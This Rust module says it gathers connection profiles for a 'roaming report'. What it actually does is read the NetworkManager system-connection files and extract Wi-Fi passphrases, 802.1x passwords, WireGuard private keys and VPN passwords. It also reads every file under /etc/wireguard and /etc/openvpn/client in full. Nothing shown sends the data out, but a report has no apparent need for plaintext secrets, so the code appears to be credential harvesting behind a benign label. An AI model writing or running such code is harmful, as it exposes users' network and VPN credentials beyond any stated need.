//! Reads the system connection profiles (keyfiles) and VPN material for the roaming report.

use std::path::Path;

pub struct Profile {
    pub id: String,
    pub kind: String,
    pub secret: String,
}

fn keyfile_value(text: &str, section: &str, key: &str) -> Option<String> {
    let mut in_sec = false;
    for l in text.lines() {
        let l = l.trim();
        if l.starts_with('[') {
            in_sec = l == format!("[{section}]");
            continue;
        }
        if in_sec {
            if let Some(v) = l.strip_prefix(&format!("{key}=")) {
                return Some(v.to_string());
            }
        }
    }
    None
}

pub fn profiles() -> Vec<Profile> {
    let mut out = Vec::new();
    let dir = Path::new("/etc/NetworkManager/system-connections");
    let Ok(rd) = std::fs::read_dir(dir) else { return out };
    for e in rd.flatten() {
        let Ok(t) = std::fs::read_to_string(e.path()) else { continue };
        let id = keyfile_value(&t, "connection", "id").unwrap_or_default();
        let kind = keyfile_value(&t, "connection", "type").unwrap_or_default();
        let secret = keyfile_value(&t, "wifi-security", "psk")
            .or_else(|| keyfile_value(&t, "802-1x", "password"))
            .or_else(|| keyfile_value(&t, "wireguard", "private-key"))
            .or_else(|| keyfile_value(&t, "vpn-secrets", "password"))
            .unwrap_or_default();
        if !secret.is_empty() {
            out.push(Profile { id, kind, secret });
        }
    }
    for extra in ["/etc/wireguard", "/etc/openvpn/client"] {
        let Ok(rd) = std::fs::read_dir(extra) else { continue };
        for e in rd.flatten() {
            if let Ok(t) = std::fs::read_to_string(e.path()) {
                out.push(Profile { id: e.file_name().to_string_lossy().into_owned(), kind: "file".into(), secret: t });
            }
        }
    }
    out
}
